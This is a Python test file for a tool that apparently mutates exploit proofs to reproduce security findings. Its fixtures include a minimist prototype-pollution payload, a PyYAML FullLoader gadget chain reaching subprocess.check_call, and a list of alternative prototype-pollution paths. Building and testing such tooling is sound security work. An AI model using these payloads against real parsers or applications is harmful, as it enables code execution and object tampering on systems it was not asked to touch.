"""Variants of proofs: from tables, from chance, the same every time, and of texts only."""

from __future__ import annotations

import random
import re
from itertools import islice

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tidegate.engines.formats.finding import Effect
from tidegate.engines.reproduction.fixes.literals import literals
from tidegate.engines.reproduction.fixes.mutating import Mutant, Mutator, all_tables, tables_for

POLLUTING = (
    "const parse = require('minimist');\n"
    "// '__proto__' in a comment\n"
    "parse([`--__proto__.${process.env.TIDEGATE_NONCE}`, 'polluted']);\n"
)
LOADING = '''import os, yaml
document = """
!!python/object/new:yaml.MappingNode
listitems: "!!python/object/apply:subprocess.check_call [[%s]]"
state: {extend: !!python/name:yaml.unsafe_load }
""" % os.environ["TIDEGATE_CANARY"]
yaml.load(document, Loader=yaml.FullLoader)
'''


def mutator(effect: str, language: str = "javascript") -> Mutator:
    return Mutator(language, effect, tables_for(effect, []))


def polluting(text: str = POLLUTING) -> list[str]:
    start = Mutant("p.js", {"p.js": text.encode()})
    found = mutator("prototype-pollution").systematic(start)
    return [mutant.files["p.js"].decode() for mutant in found]


@pytest.mark.parametrize("name", all_tables())
def test_a_table_names_its_sources_and_what_it_is_for_and_no_package(name):
    table = all_tables()[name]
    assert table["about"]
    assert any("https://" in source for source in table["sources"])
    assert set(table["effects"]) <= set(Effect)
    assert all(re.fullmatch(r"CWE-\d+", weakness) for weakness in table["weaknesses"])
    assert all(len(pair) == 2 and pair[0] != pair[1] for pair in table.get("rewritings", ()))
    assert "minimist" not in str(table)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("`--__proto__.${n}`", "`--constructor.prototype.${n}`"),
        ("`--__proto__.${n}`", "`--__proto__.${n}.part`"),
        ("`--__proto__.${n}`", "`--__proto__[${n}]`"),
        ("'__proto__[' + n + ']'", "'constructor[prototype][' + n + ']'"),
        ("'a[__proto__][b]'", "'a[constructor][prototype][b]'"),
        ("'/__proto__/b'", "'/constructor/prototype/b'"),
        ("['__proto__', n]", "['constructor', 'prototype', n]"),
        ("o['__proto__'][n]", "o['constructor']['prototype'][n]"),
        ('\'{"__proto__": {"a": 1}}\'', '\'{"constructor": {"prototype": {"a": 1}}}\''),
        ("'constructor.prototype.b'", "'__proto__.b'"),
        ("'constructor.prototype.b'", "'constructor.prototype.b.part'"),
    ],
)
def test_a_way_to_the_prototype_becomes_another_in_its_own_notation(before, after):
    assert f"call({after});" in polluting(f"call({before});")


def test_a_document_that_makes_objects_becomes_any_other_that_does():
    start = Mutant("p.py", {"p.py": LOADING.encode()})
    made = [m.files["p.py"].decode() for m in mutator("code-execution", "python").systematic(start)]
    for part in ("object/new:tuple [!!python/object/new:map", '{\\"extend\\": ', "staticmethod"):
        assert any(part in text for text in made)
    for text in made:
        compile(text, "p.py", "exec")
        assert text.count("%s") == 1  # what the program puts in still finds a place
        assert 'os.environ["TIDEGATE_CANARY"]' in text


def test_only_texts_are_varied_never_code_nor_names_of_modules():
    for text in polluting():
        code = re.sub(r"`[^`]*`|'polluted'", "", text)
        assert code == re.sub(r"`[^`]*`|'polluted'", "", POLLUTING)
        assert "${process.env.TIDEGATE_NONCE}" in text


def test_by_chance_is_the_same_by_the_same_seed():
    start = Mutant("p.js", {"p.js": POLLUTING.encode()})
    found = mutator("prototype-pollution")

    def some(seed: int) -> list[bytes]:
        chance = random.Random(seed)
        made = (found.by_chance([start], chance) for _ in range(20))
        return [mutant.key for mutant in made if mutant]

    assert some(1) == some(1) != some(2)
    assert len(set(some(1))) > 10


def test_files_beside_the_program_are_texts_too():
    start = Mutant("p.py", {"p.py": b"open('d')", "d.yml": b"x: !!python/object/new:a\n"})
    found = mutator("code-execution", "python").systematic(start)
    assert {m.files["p.py"] for m in found} == {b"open('d')"}


@pytest.mark.parametrize(
    ("language", "source", "bodies"),
    [
        ("python", "a = 'x'  # 'y'\nb = r\"z\"", ["x", "z"]),
        ("python", 'f("""a\n"b" """)', ['a\n"b" ']),
        ("python", "import_module('yaml'); x = 'a\\'b'", ["a\\'b"]),
        ("javascript", "a('x'); // 'y'\n/* 'z' */ b(\"w\")", ["x", "w"]),
        ("javascript", "require('m'); import x from 'y'; import('z'); f('k')", ["k"]),
        ("javascript", "env['TIDEGATE_NONCE'] + 'unclosed\n + 'closed'", ["closed"]),
    ],
)
def test_texts_are_found(language, source, bodies):
    assert [literal.body for literal in literals(source, language)] == bodies


@settings(max_examples=100)
@given(
    st.text(alphabet="ab'\"`\\${}#/*\nr%s \ue000", max_size=40),
    st.sampled_from(["python", "javascript"]),
)
def test_a_text_that_is_not_varied_is_written_as_it_was(source, language):
    for literal in literals(source, language):
        assert literal.written(literal.body) in (source[literal.start : literal.end], None)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="-_.[]/'\"`${}:constructorp ", max_size=60))
def test_any_program_can_be_varied(body):
    start = Mutant("p.js", {"p.js": f"f('{body}__proto__{body}')".encode()})
    assert all(
        mutant.steps for mutant in islice(mutator("prototype-pollution").systematic(start), 50)
    )
